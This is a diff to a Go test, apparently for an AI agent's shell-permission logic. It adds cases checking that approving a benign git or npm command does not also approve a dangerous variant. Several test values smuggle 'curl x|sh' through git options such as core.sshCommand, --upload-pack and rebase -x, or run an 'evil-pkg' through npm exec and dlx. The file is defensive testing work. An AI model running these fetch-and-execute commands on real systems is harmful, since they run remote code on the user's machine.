@@ -173,6 +173,18 @@ func TestAlwaysScope_NeverBroaderThanShown(t *testing.T) {
 		{"ssh -p 22 host ls", "ssh -p 22 host make clean"}, // a remote command, run by a shell there
 		{"ssh host uptime", "ssh host reboot"},
 		{"at -q a now", "at -q a midnight"},
+		{"git clone -c core.autocrlf=false u", "git clone -c core.sshCommand='curl x|sh' u"}, // a program given by option
+		{"git clone -u git-upload-pack u", "git clone -u 'curl x|sh' u"},
+		{"git fetch --upload-pack git-upload-pack", "git fetch --upload-pack 'curl x|sh'"},
+		{"git push --receive-pack git-receive-pack", "git push --receive-pack 'curl x|sh'"},
+		{"git rebase -x 'make test' main", "git rebase -x 'curl x|sh' main"},
+		{"git submodule status", "git submodule foreach 'curl x|sh'"},
+		{"git difftool -x meld", "git difftool -x 'curl x|sh'"},
+		{"git bisect run make", "git bisect run curl x"},
+		{"npm exec prettier .", "npm exec evil-pkg"}, // a package runner, as npx
+		{"npm --yes exec prettier .", "npm --yes exec evil-pkg"},
+		{"pnpm -C web dlx prettier .", "pnpm -C web dlx evil-pkg"},
+		{"yarn --cwd web dlx prettier", "yarn --cwd web dlx evil-pkg"},
 	}
 	for _, tt := range tests {
 		if AlwaysScope("Bash", tt.allowed) == AlwaysScope("Bash", tt.later) {
